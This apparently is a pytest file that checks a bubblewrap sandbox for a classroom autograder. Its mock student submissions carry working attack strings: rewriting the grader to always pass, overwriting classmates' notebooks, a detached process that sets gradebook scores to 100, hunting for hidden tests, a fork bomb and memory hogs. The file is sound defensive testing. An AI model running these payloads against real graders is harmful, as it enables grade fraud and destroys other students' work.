"""Grading a class of attackers: each student's kernel runs in the bubblewrap sandbox
(coursekit.classroom.sandbox), so no submission can change the course, the gradebook, the
installed coursekit or a classmate, reach the network, outlive its kernel, read what it
must not read, or take the machine down; and the hidden tests never reach a student's
feedback.

One class (12 students) is graded once, with two shards; every test below reads what that
run left. The attacks sit at the top of the ``min_max_scaler`` solution cell. Anything an
attack would destroy is limited to paths inside this test's own course folder (its name
holds a unique marker), so that a broken sandbox cannot damage the repository it runs in.
"""
from __future__ import annotations

import ast
import base64
import binascii
import copy
import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

import coursekit
from coursekit import classroom
from coursekit import course as registry
from coursekit.classroom import sandbox
from conftest import ROOT, released_course, tool_env

pytestmark = pytest.mark.slow
A = "scaling"
FULL = registry.assignment(A).autograded
MARK = f"sbx{uuid.uuid4().hex[:12]}"           # in the course folder's name and in every attack's traces
MINMAX_RETURN = "return (X - self.data_min) / self.data_range * (high - low) + low"
WRONG_RETURN = "return X * 0"
GHOSTS = ("ghost1", "ghost2", "ghost3")
TMP_GHOST = Path(f"/tmp/ghost-{MARK}")
PTH = f"coursekit_tamper_{MARK}.pth"
EXCLUDED = ("autograded", "feedback", "reports", "gradebook.db")   # what grading writes
PROCESS_MARKER = f"DETACHED-{MARK}"
TAMPER_MARKER = f"TAMPERED-{MARK}"          # in what the tamper attack appends to coursekit
NBGRADER = str(Path(sys.executable).parent / "nbgrader")


# --------------------------------------------------------------------------- the attacks

# Helpers the attacks share: bounded searches of the whole file system.
FIND = r'''
import fnmatch as _fnmatch, glob as _glob, os as _os, signal as _signal, time as _time


class _SbxTimeout(Exception):
    pass


def _sbx_find(pattern, seconds=3.0, dirs_too=False):
    """Paths whose name matches pattern: os.walk from likely places, then from /, for at most `seconds`."""
    found, deadline, seen = [], _time.monotonic() + seconds, set()
    for root in ("/tmp", "/home", "/work", "/root", "/var", "/srv", "/mnt", "/opt", "/"):
        for top, dirs, files in _os.walk(root):
            if _time.monotonic() > deadline:
                return found
            if top in seen:
                dirs[:] = []
                continue
            seen.add(top)
            dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "__pycache__")
                       and _os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
            names = files + (dirs if dirs_too else [])
            found += [_os.path.join(top, n) for n in names if _fnmatch.fnmatch(n, pattern)]
    return found


def _sbx_glob(pattern, seconds=2.0):
    """glob.iglob(pattern, recursive=True), stopped after `seconds` (a recursive glob of / may not end)."""
    found = []

    def _alarm(*args):
        raise _SbxTimeout()
    old = _signal.signal(_signal.SIGALRM, _alarm)
    _signal.setitimer(_signal.ITIMER_REAL, seconds)
    try:
        for path in _glob.iglob(pattern, recursive=True):
            found.append(_os.path.abspath(path))
    except (_SbxTimeout, OSError):
        pass
    finally:
        _signal.setitimer(_signal.ITIMER_REAL, 0)
        _signal.signal(_signal.SIGALRM, old)
    return found


_SBX_OWN = _os.getcwd()
'''

TAMPER = r'''
import pathlib as _pathlib, site as _site
import coursekit as _ck
_names = ["check_min_max_transform", "check_min_max_inverse", "check_min_max_edge_cases",
          "check_standard_transform", "check_standard_inverse", "check_standard_edge_cases"]
_target = _pathlib.Path(_ck.__file__).parent / "grading" / "scaling.py"
try:
    with open(_target, "a") as _f:
        _f.write("\n\n# @TAMPER_MARKER@\ndef _always_pass(*args, points=1, **kwargs):\n    return float(points)\n\n\n"
                 + "".join(f"{_n} = _always_pass\n" for _n in _names))
    print("TAMPER appended always-pass wrappers to", _target)
except Exception as _e:
    print("TAMPER could not change", _target, "-", type(_e).__name__, _e)
for _folder in _site.getsitepackages():
    try:
        (_pathlib.Path(_folder) / "@PTH@").write_text("/nonexistent-@MARK@\n")
        print("TAMPER wrote a .pth file into", _folder)
    except Exception as _e:
        print("TAMPER could not write into", _folder, "-", type(_e).__name__, _e)
'''

CLASSMATES = FIND + r'''
_found = set()
for _pattern in ("/**/submitted/*/scaling/*.ipynb", "../*/scaling/*.ipynb", "../../submitted/*/*/*.ipynb",
                 "@COURSE@/submitted/*/*/*.ipynb"):
    _found |= set(_sbx_glob(_pattern))
_found |= set(_sbx_find("*.ipynb"))
_found = sorted(p for p in _found if not p.startswith(_SBX_OWN + "/"))
print(f"CLASSMATES found {len(_found)} notebooks outside its own folder:", _found[:20])
try:
    _wrong = open("scaling.ipynb").read().replace(
        "return (X - self.data_min) / self.data_range * (high - low) + low", "return X * 0")
except Exception:
    _wrong = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
for _p in _found:
    if "@MARK@" not in _p:        # destroy only inside this test's course
        continue
    try:
        with open(_p, "w") as _f:
            _f.write(_wrong)
        print("CLASSMATES overwrote", _p)
    except Exception as _e:
        print("CLASSMATES could not overwrite", _p, "-", type(_e).__name__)
'''

DETACHED_CHILD = r'''# @PROCESS_MARKER@
import glob, os, sqlite3, time
time.sleep(8)
paths = set(glob.glob("@COURSE@/**/gradebook.db", recursive=True))
for root in ("/tmp", "/home", "/work", "/root"):
    deadline = time.monotonic() + 2
    for top, dirs, files in os.walk(root):
        if time.monotonic() > deadline:
            break
        if "gradebook.db" in files:
            paths.add(os.path.join(top, "gradebook.db"))
for path in paths:
    if "@MARK@" not in path:
        continue
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = 100")
        con.commit()
        con.close()
    except Exception:
        pass
'''

DETACHED = r'''
import os as _os, subprocess as _subprocess, sys as _sys
_child = @CHILD@
try:
    _proc = _subprocess.Popen([_sys.executable, "-c", _child], start_new_session=True,
                              stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
    print("DETACHED started", _proc.pid)
    _pid = _os.fork()
    if _pid == 0:                       # double fork: the grandchild is reparented
        try:
            _os.setsid()
            if _os.fork() == 0:
                _devnull = _os.open(_os.devnull, _os.O_RDWR)
                for _fd in (0, 1, 2):
                    _os.dup2(_devnull, _fd)
                _os.execv(_sys.executable, [_sys.executable, "-c", _child])
        finally:
            _os._exit(0)
    _os.waitpid(_pid, 0)
    print("DETACHED double-forked")
except Exception as _e:
    print("DETACHED could not start:", type(_e).__name__, _e)
'''

LEAK = FIND + r'''
import sqlite3 as _sqlite3, json as _json
_HIDDEN = "BEGIN " + "HIDDEN TESTS"     # (not spelled out: this cell's own source must not match)


def _sbx_hidden(path):
    """Print the cells of a notebook that hold hidden tests, and any student token in it."""
    try:
        _text = open(path).read()
    except Exception:
        return
    if "TOKEN_" in _text:
        print("LEAK tokens in", path, ":", sorted(set(__import__("re").findall(r"TOKEN_\w+", _text))))
    if _HIDDEN in _text:
        print("LEAK hidden tests in", path)
        try:
            for _cell in _json.loads(_text)["cells"]:
                _src = "".join(_cell["source"])
                if _HIDDEN in _src:
                    print(_src)
        except Exception:
            print(_text)


for _db in _sbx_find("gradebook.db") + _sbx_glob("@COURSE@/gradebook.db"):
    print("LEAK found a gradebook:", _db)
    try:
        for (_src,) in _sqlite3.connect(_db).execute("SELECT source FROM source_cell"):
            print(_src)
    except Exception as _e:
        print("LEAK could not read it:", type(_e).__name__)
for _folder in _sbx_find("solutions", dirs_too=True) + _sbx_glob("@COURSE@/solutions"):
    print("LEAK found solutions/:", _folder)
    for _nb in _glob.glob(_folder + "/*/*.ipynb"):
        _sbx_hidden(_nb)
_notebooks = set(_sbx_find("*.ipynb")) | set(_sbx_glob("@COURSE@/**/*.ipynb"))
print("LEAK notebooks it can see:", sorted(_notebooks)[:30])
for _nb in sorted(_notebooks):
    _sbx_hidden(_nb)
'''

HOOK = r'''
import base64 as _base64
_sbx_last = {}


def _sbx_post(result):
    print("HOOK ran:\n" + result.info.raw_cell)
    _sbx_last["source"] = result.info.raw_cell


def _sbx_pre(info):          # the next cell's output: shown in feedback unless scrubbed
    if _sbx_last.get("source"):
        print("HOOK the previous cell was:\n" + _sbx_last["source"])
        print("HOOK b64:", _base64.b64encode(_sbx_last["source"].encode()).decode())


get_ipython().events.register("post_run_cell", _sbx_post)
get_ipython().events.register("pre_run_cell", _sbx_pre)
'''

VANDAL = FIND + r'''
import shutil as _shutil
_targets = set(p for p in _sbx_glob("/**/submitted/*/scaling", 2.0) + _sbx_glob("@COURSE@/submitted/*/scaling")
               if not p.startswith(_SBX_OWN))
_targets |= {_os.path.dirname(p) for p in _sbx_find("*.ipynb") if "/submitted/" in p and not p.startswith(_SBX_OWN)}
_targets |= {p for p in _sbx_find("scaling", dirs_too=True) if p.endswith("/exercises/scaling")}
_targets |= set(_sbx_glob("@COURSE@/exercises/scaling"))
print("VANDAL targets:", sorted(_targets))
for _t in sorted(_targets):
    if "@MARK@" not in _t:         # destroy only inside this test's course
        continue
    try:
        _shutil.rmtree(_t)
        print("VANDAL deleted", _t)
    except Exception as _e:
        print("VANDAL could not delete", _t, "-", type(_e).__name__)
_n = 0
try:
    for _n in range(20_000):
        with open(f"junk-{_n:05d}.txt", "w") as _f:
            _f.write("x")
    _n += 1
except Exception as _e:
    print("VANDAL junk stopped:", type(_e).__name__, _e)
print("VANDAL wrote", _n, "junk files")
for _g in ("ghost1", "ghost2", "ghost3"):
    for _base in ("../../submitted", "@COURSE@/submitted"):
        try:
            _os.makedirs(f"{_base}/{_g}/scaling", exist_ok=True)
            _shutil.copy("scaling.ipynb", f"{_base}/{_g}/scaling/scaling.ipynb")
            print("VANDAL created", _os.path.abspath(f"{_base}/{_g}/scaling"))
        except Exception as _e:
            print("VANDAL could not create", _base, _g, "-", type(_e).__name__)
try:
    _os.makedirs("@TMP_GHOST@")
    print("VANDAL created @TMP_GHOST@")
except Exception as _e:
    print("VANDAL could not create @TMP_GHOST@ -", type(_e).__name__)
'''

NETWORK = r'''
import socket as _socket
print("NETWORK interfaces:", sorted(name for _, name in _socket.if_nameindex()))
for _host, _port in (("pypi.org", 443), ("1.1.1.1", 53)):
    try:
        _socket.create_connection((_host, _port), timeout=3).close()
        print(f"NETWORK {_host}:{_port} connected")
    except OSError as _e:
        print(f"NETWORK {_host}:{_port} failed: {type(_e).__name__}: {_e}")
'''

HOG = r'''
try:
    _hog = bytearray(8 << 30)
    print("HOG allocated", 8, "GiB")
except MemoryError:
    print("HOG could not allocate", 8, "GiB")
    raise
'''

HOARD = r'''
import os as _os, time as _time
_kids = []
for _ in range(3):                          # 3 x 2 GiB: each process is under its 4 GiB of address space
    _pid = _os.fork()
    if _pid == 0:
        _block = bytearray(2 << 30)
        for _i in range(0, len(_block), 4096):
            _block[_i] = 1
        _time.sleep(1)
        _os._exit(0)
    _kids.append(_pid)
print("HOARD children ended with", sorted(_os.waitpid(_k, 0)[1] for _k in _kids))
'''

FORKBOMB = r'''
import os as _os, threading as _threading, time as _time
_threading.stack_size(256 * 1024)          # small stacks: the process limit, not memory, stops it
_threads, _error = [], None
try:
    for _ in range(3000):
        _t = _threading.Thread(target=_time.sleep, args=(2,), daemon=True)
        _t.start()
        _threads.append(_t)
except Exception as _e:
    _error = _e
print(f"FORKBOMB started {len(_threads)} threads, then: {_error!r}")
for _t in _threads:
    _t.join()
_pids, _error = [], None
try:
    for _ in range(1500):
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(2)
            _os._exit(0)
        _pids.append(_pid)
except Exception as _e:
    _error = _e
print(f"FORKBOMB forked {len(_pids)} processes, then: {_error!r}")
for _pid in _pids:
    _os.waitpid(_pid, 0)
'''


def _fill(template: str, course: Path) -> str:
    child = DETACHED_CHILD.replace("@PROCESS_MARKER@", PROCESS_MARKER)
    return (template.replace("@CHILD@", repr(child)).replace("@COURSE@", str(course)).replace("@MARK@", MARK)
            .replace("@PTH@", PTH).replace("@TAMPER_MARKER@", TAMPER_MARKER).replace("@TMP_GHOST@", str(TMP_GHOST)))


# student: (attack at the top of min_max_scaler, wrong transform?)
ATTACKS = {
    "alice": ("", False),
    "bob": ("", True),
    "tamper": (TAMPER, True),
    "classmates": (CLASSMATES, False),
    "detached": (DETACHED, True),
    "leak": (LEAK, False),
    "hook": (HOOK, False),
    "vandal": (VANDAL, False),
    "network": (NETWORK, False),
    "hog": (HOG, False),
    "hoard": (HOARD, False),
    "forkbomb": (FORKBOMB, False),
}
STUDENTS = sorted([*ATTACKS, "unchanged"])


# --------------------------------------------------------------------------- helpers

def grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def source(cell) -> str:
    s = cell.get("source", "")
    return s if isinstance(s, str) else "".join(s)


def filled_in(release: dict, solution: dict) -> dict:
    """The released notebook with the solution cells answered as in solutions/ (hidden tests
    stay hidden: a student never has them)."""
    answers = {grade_id(c): c["source"] for c in solution["cells"] if grade_id(c)}
    nb = copy.deepcopy(release)
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell["source"] = answers[grade_id(cell)]
    return nb


def edit(nb: dict, gid: str, old: str, new: str) -> dict:
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb["cells"] if grade_id(c) == gid)
    text = source(cell)
    assert old in text, f"{gid} no longer contains {old!r}: update this test"
    cell["source"] = text.replace(old, new, 1)
    return nb


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def snapshot(course: Path) -> dict[str, str]:
    """relative path -> sha256 of every file of the course but what grading writes."""
    found = {}
    for path in sorted(course.rglob("*")):
        rel = path.relative_to(course)
        if rel.parts[0] in EXCLUDED or rel.name.startswith("gradebook.db"):
            continue
        found[str(rel)] = "dir" if path.is_dir() else sha256(path)
    return found


def package_hashes() -> dict[str, bytes]:
    root = Path(coursekit.__file__).parent
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and "__pycache__" not in p.parts}   # grading compiles bytecode before it starts


def scores(course: Path) -> dict[str, float | None]:
    from nbgrader.api import Gradebook, MissingEntry
    found = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in gb.students:
            try:
                found[student.id] = gb.find_submission(A, student.id).score
            except MissingEntry:
                found[student.id] = None
    return found


def outputs_text(path: Path) -> str:
    """Every output of a graded notebook as text (streams, results, errors and tracebacks)."""
    parts = []
    for cell in json.loads(path.read_text())["cells"]:
        for output in cell.get("outputs", []):
            text = output.get("text", "")
            parts.append(text if isinstance(text, str) else "".join(text))
            for value in output.get("data", {}).values():
                parts.append(value if isinstance(value, str) else "".join(value) if isinstance(value, list) else "")
            if output.get("output_type") == "error":
                parts.append(f"{output.get('ename')}: {output.get('evalue')}")
                parts += output.get("traceback", [])
    return re.sub(r"\x1b\[[0-9;]*[A-Za-z]", "", "\n".join(parts))


def live_processes(marker: str) -> list[str]:
    """Command lines of the live processes that contain ``marker`` (this process excluded)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in cmdline:
            found.append(f"{entry.name}: {cmdline[:120]}")
    return found


def hidden_lines() -> set[str]:
    """The lines of hidden-test code in solutions/scaling (stripped, at least 8 characters)."""
    lines = set()
    nb = json.loads((ROOT / "solutions" / A / f"{A}.ipynb").read_text())
    for cell in nb["cells"]:
        hidden = source(cell).partition("### BEGIN HIDDEN TESTS")[2].partition("### END HIDDEN TESTS")[0]
        lines |= {line.strip() for line in hidden.splitlines() if len(line.strip()) >= 8}
    assert lines, "solutions/scaling has no hidden tests any more: update this test"
    return lines


def make_course(root: Path) -> Path:
    return released_course(root, A)


# --------------------------------------------------------------------------- the class, graded once

@pytest.fixture(scope="module")
def run(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp(f"course-{MARK}-"))
    release = json.loads((course / "exercises" / A / f"{A}.ipynb").read_text())
    solution = filled_in(release, json.loads((course / "solutions" / A / f"{A}.ipynb").read_text()))
    submitted = {}
    for student in STUDENTS:
        if student == "unchanged":
            nb = release
        else:
            attack, wrong = ATTACKS[student]
            nb = edit(solution, "min_max_scaler", MINMAX_RETURN, WRONG_RETURN) if wrong else solution
            nb = edit(nb, "min_max_scaler", "class MinMaxScaler",
                      f"# TOKEN_{student}_{MARK}\n{_fill(attack, course)}\n\nclass MinMaxScaler")
        folder = course / "submitted" / student / A
        folder.mkdir(parents=True)
        (folder / f"{A}.ipynb").write_text(json.dumps(nb, indent=1))
        submitted[student] = nb
    classroom.preflight(course, A)             # its repairs are written in place: make them before the snapshot
    site_packages = [Path(p) for p in __import__("site").getsitepackages()]
    before = {"course": snapshot(course), "package": package_hashes(), "tmp_ghost": TMP_GHOST.exists()}
    lines = []
    start = time.monotonic()
    try:
        results = classroom.grade(course, A, jobs=2, timeout=60, progress=lines.append)
        seconds = time.monotonic() - start
        at_return = scores(course)
        time.sleep(10)                          # the detached processes would act after 8 s
        after = {"course": snapshot(course), "package": package_hashes(), "tmp_ghost": TMP_GHOST.exists(),
                 "pth": [str(p / PTH) for p in site_packages if (p / PTH).exists()],
                 "processes": live_processes(PROCESS_MARKER), "scores": scores(course)}
    finally:
        # a broken sandbox must not leave the repository's coursekit or the venv tampered with;
        # only what the attack wrote (it carries the marker) is undone, never anyone's edits
        root = Path(coursekit.__file__).parent
        for rel, content in before["package"].items():
            path = root / rel
            if path.exists() and TAMPER_MARKER.encode() in path.read_bytes():
                path.write_bytes(content)
        for p in site_packages:
            (p / PTH).unlink(missing_ok=True)
        for line in live_processes(PROCESS_MARKER):
            try:
                os.kill(int(line.split(":")[0]), 9)
            except OSError:
                pass
        if TMP_GHOST.exists() and not before["tmp_ghost"]:
            shutil.rmtree(TMP_GHOST, ignore_errors=True)
    classroom.feedback(course, A)
    return {"course": course, "results": {r.student: r for r in results}, "at_return": at_return,
            "before": before, "after": after, "submitted": submitted, "seconds": seconds, "lines": lines,
            "status": classroom.read_status(course, A)}


def graded_outputs(run, student) -> str:
    path = run["course"] / "autograded" / student / A / f"{A}.ipynb"
    assert path.exists(), f"{student} has no autograded notebook: {run['results'][student]}"
    return outputs_text(path)


def feedback_html(run, student) -> str:
    path = run["course"] / "feedback" / student / A / f"{A}.html"
    assert path.exists(), f"{student} has no feedback: {run['results'][student]}"
    return html.unescape(path.read_text())


# --------------------------------------------------------------------------- the whole class

def test_every_student_is_accounted_for(run):
    print(f"grading {len(STUDENTS)} students took {run['seconds']:.0f} s")
    assert set(run["results"]) == set(STUDENTS)
    assert set(run["status"]) == set(STUDENTS), "status.csv must list every student, and no one else"
    for student in STUDENTS:
        if student not in ("hog", "hoard", "forkbomb"):
            assert_kept(run["results"][student])
    assert not list((run["course"] / "reports" / ".work").glob("grade-*")), "a shard was left behind"


def assert_kept(result):
    """Graded; the tamper attack imports coursekit in its answer cell, which the trusted
    checker flags for review, with the same score as in the notebook (the attack had no effect)."""
    if result.student != "tamper":
        assert result.status == "graded", result
        return
    assert result.status == "flagged" and "imports what a solution may not use (coursekit)" in result.reason, result
    assert "differs" not in result.reason, result


def test_the_course_is_unchanged_but_for_the_grading_outputs(run):
    before, after = run["before"]["course"], run["after"]["course"]
    assert {k for k in after if k not in before} == set(), "files appeared in the course"
    assert {k for k in before if k not in after} == set(), "files of the course disappeared"
    assert {k for k in before if before[k] != after[k]} == set(), "files of the course changed"


def test_honest_scores(run):
    s = run["after"]["scores"]
    assert s["alice"] == FULL
    assert s["unchanged"] == 0
    assert s["bob"] is not None and 0 < s["bob"] < FULL


# --------------------------------------------------------------------------- one test per attack

def test_tamper_cannot_change_the_installed_coursekit(run):
    out = graded_outputs(run, "tamper")
    assert "TAMPER could not change" in out and "TAMPER appended" not in out, out[-2000:]
    changed = [rel for rel, content in run["before"]["package"].items()
               if run["after"]["package"].get(rel) != content]
    added = sorted(set(run["after"]["package"]) - set(run["before"]["package"]))
    tampered = [rel for rel, content in run["after"]["package"].items() if TAMPER_MARKER.encode() in content]
    assert tampered == [], f"the tamper attack changed coursekit: {tampered}"
    assert changed == [] and added == [], \
        f"coursekit changed during grading: {changed} {added} (or someone edited it while the test ran)"
    assert run["after"]["pth"] == [], "a .pth file was written into the venv's site-packages"
    s = run["after"]["scores"]
    assert s["tamper"] is None or s["tamper"] <= s["bob"]
    assert s["alice"] == FULL and s["unchanged"] == 0


def test_classmates_cannot_reach_other_submissions(run):
    out = graded_outputs(run, "classmates")
    assert "CLASSMATES found" in out, out[-2000:]
    assert "CLASSMATES overwrote" not in out, out[-3000:]
    found = re.search(r"CLASSMATES found \d+ notebooks outside its own folder: (.*)", out).group(1)
    assert MARK not in found and "/submitted/" not in found, found
    s = run["after"]["scores"]
    assert s["alice"] == FULL and s["unchanged"] == 0 and s["classmates"] == FULL
    for student in STUDENTS:
        rel = f"submitted/{student}/{A}/{A}.ipynb"
        assert run["before"]["course"][rel] == run["after"]["course"].get(rel), rel


def test_no_process_outlives_its_kernel(run):
    out = graded_outputs(run, "detached")
    assert "DETACHED started" in out, out[-2000:]
    assert run["after"]["processes"] == [], "processes of a kernel survived it"
    assert run["after"]["scores"] == run["at_return"], "the gradebook changed after grading returned"
    s = run["after"]["scores"]
    assert s["detached"] is not None and s["detached"] <= s["bob"]
    assert all(v is None or v <= FULL for v in s.values())


def test_leak_finds_no_hidden_tests_solutions_or_classmates(run):
    out = graded_outputs(run, "leak")
    assert "LEAK notebooks it can see" in out, out[-2000:]
    solution_lines = {line.strip() for cell in json.loads((ROOT / "solutions" / A / f"{A}.ipynb").read_text())["cells"]
                      for line in source(cell).splitlines() if len(line.strip()) >= 8}
    own = {line.strip() for cell in run["submitted"]["leak"]["cells"] for line in source(cell).splitlines()}
    secret = solution_lines - own
    others = [f"TOKEN_{s}_{MARK}" for s in STUDENTS if s != "leak"]
    assert "LEAK found a gradebook" not in out and "LEAK found solutions/" not in out
    problems = []
    for where, text in (("the autograded outputs", out), ("the feedback", feedback_html(run, "leak"))):
        if "BEGIN HIDDEN TESTS" in text:
            problems.append(f"{where} show 'BEGIN HIDDEN TESTS'")
        shown = sorted(line for line in secret if line in text)
        if shown:
            problems.append(f"{where} show {len(shown)} lines of solutions/, e.g. {shown[:2]}")
        if [t for t in others if t in text]:
            problems.append(f"{where} show other students' code")
    found = re.findall(r"LEAK hidden tests in (\S+)", out)
    assert problems == [], f"leak read the hidden tests from {found}: " + "; ".join(problems)


def test_a_hook_cannot_show_hidden_tests_in_feedback(run):
    out = graded_outputs(run, "hook")
    assert "HOOK ran:" in out, "the hook did not run: this test no longer tests anything"
    text = feedback_html(run, "hook")
    shown = sorted(line for line in hidden_lines() if line in text)
    assert shown == [], f"the feedback shows hidden-test code: {shown}"


def test_a_hook_cannot_show_hidden_tests_in_feedback_encoded(run):
    """The same hook printing the previous cell base64-encoded: no hidden-test code once decoded."""
    text = feedback_html(run, "hook")
    decoded = []
    for blob in re.findall(r"HOOK b64: ([A-Za-z0-9+/=]+)", text):
        try:
            decoded.append(base64.b64decode(blob).decode(errors="replace"))
        except (binascii.Error, ValueError):
            pass
    assert decoded, "the feedback shows no encoded output: this test no longer tests anything"
    shown = sorted(line for line in hidden_lines() if any(line in d for d in decoded))
    assert shown == [], f"the feedback shows hidden-test code (base64-encoded): {shown}"


def test_vandal_changes_nothing_outside_its_scratch(run):
    out = graded_outputs(run, "vandal")
    assert "VANDAL wrote" in out, out[-2000:]
    assert "VANDAL deleted" not in out, out[-3000:]
    assert not run["after"]["tmp_ghost"], f"{TMP_GHOST} was created on the host"
    course = run["course"]
    assert sorted(p.name for p in (course / "submitted").iterdir()) == STUDENTS
    assert (course / "exercises" / A / f"{A}.ipynb").exists()
    assert not set(GHOSTS) & set(run["status"])
    assert not set(GHOSTS) & set(run["after"]["scores"])
    assert run["results"]["vandal"].status == "graded" and run["after"]["scores"]["vandal"] == FULL


def test_no_network(run):
    out = graded_outputs(run, "network")
    assert "connected" not in out, out[-2000:]
    assert "NETWORK pypi.org:443 failed" in out and "NETWORK 1.1.1.1:53 failed" in out, out[-2000:]
    interfaces = re.search(r"NETWORK interfaces: (\[.*\])", out).group(1)
    assert set(ast.literal_eval(interfaces)) <= {"lo"}, interfaces
    assert run["results"]["network"].status == "graded" and run["after"]["scores"]["network"] == FULL


def test_memory_limit(run):
    hog = run["results"]["hog"]
    assert hog.status in ("graded", "failed"), hog
    assert "memory limit 4 GiB reached" in hog.reason, hog
    if hog.status == "graded":
        out = graded_outputs(run, "hog")
        assert "HOG could not allocate 8 GiB" in out and "HOG allocated 8 GiB" not in out, out[-2000:]


def test_memory_limit_holds_for_all_the_kernels_processes_together(run):
    """Three processes of 2 GiB each: every one is within its address space, together they
    exceed the kernel's 4 GiB (a memory cgroup, when grading runs as root)."""
    if os.geteuid() != 0:
        pytest.skip("the memory of all a kernel's processes is bounded by a cgroup, made when grading runs as root")
    hoard = run["results"]["hoard"]
    assert hoard.status in ("graded", "failed") and "memory limit 4 GiB reached" in hoard.reason, hoard
    if hoard.status == "graded":
        ended = re.search(r"HOARD children ended with \[(.*)\]", graded_outputs(run, "hoard")).group(1)
        assert "9" in ended.split(", "), ended     # SIGKILL from the out-of-memory killer


def test_process_limit(run):
    bomb = run["results"]["forkbomb"]
    assert bomb.status == "graded" and "process limit 512 reached" in bomb.reason, bomb
    out = graded_outputs(run, "forkbomb")
    threads = int(re.search(r"FORKBOMB started (\d+) threads", out).group(1))
    forks = int(re.search(r"FORKBOMB forked (\d+) processes", out).group(1))
    assert threads < 512 and forks < 512, (threads, forks)   # 3000 and 1500 were asked for
    for student in STUDENTS:
        if student not in ("hog", "hoard", "forkbomb"):
            assert_kept(run["results"][student])


# --------------------------------------------------------------------------- without bubblewrap

@pytest.fixture(scope="module")
def fresh_course(tmp_path_factory) -> Path:
    return make_course(tmp_path_factory.mktemp("fresh"))


def test_require_names_bubblewrap_and_the_way_out(monkeypatch, tmp_path):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o644)                         # not executable
    monkeypatch.setenv("BWRAP", str(fake))
    assert sandbox.bwrap_path() is None
    with pytest.raises(RuntimeError, match="bubblewrap") as info:
        sandbox.require()
    assert "--no-sandbox" in str(info.value)


def test_the_command_line_stops_without_bubblewrap(fresh_course):
    result = subprocess.run([sys.executable, "-m", "coursekit.classroom", "--course", str(fresh_course), "grade", A],
                            capture_output=True, text=True, env=tool_env(BWRAP="/nonexistent"), timeout=120)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "bubblewrap" in result.stderr and "--no-sandbox" in result.stderr, result.stderr


def test_grading_without_a_sandbox_is_recorded(fresh_course):
    release = json.loads((fresh_course / "exercises" / A / f"{A}.ipynb").read_text())
    solution = filled_in(release, json.loads((fresh_course / "solutions" / A / f"{A}.ipynb").read_text()))
    folder = fresh_course / "submitted" / "alice" / A
    folder.mkdir(parents=True)
    (folder / f"{A}.ipynb").write_text(json.dumps(solution))
    results = classroom.grade(fresh_course, A, jobs=1, students=["alice"], sandboxed=False, progress=lambda line: None)
    assert [r.status for r in results] == ["graded"]
    row = classroom.read_status(fresh_course, A)["alice"]
    assert "graded without a sandbox (--no-sandbox)" in row["review"]
    assert scores(fresh_course)["alice"] == FULL
